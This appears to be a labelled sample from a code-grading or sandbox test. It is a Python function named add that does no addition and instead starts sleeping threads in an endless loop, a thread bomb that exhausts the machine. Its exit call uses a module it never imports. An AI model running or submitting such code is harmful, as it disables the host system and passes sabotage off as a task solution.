# Starts threads without end.
# stock: not run: it would harm the machine
# finding: counts as failed
# %% add
import threading
import time

def add(x, y):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            os._exit(1)
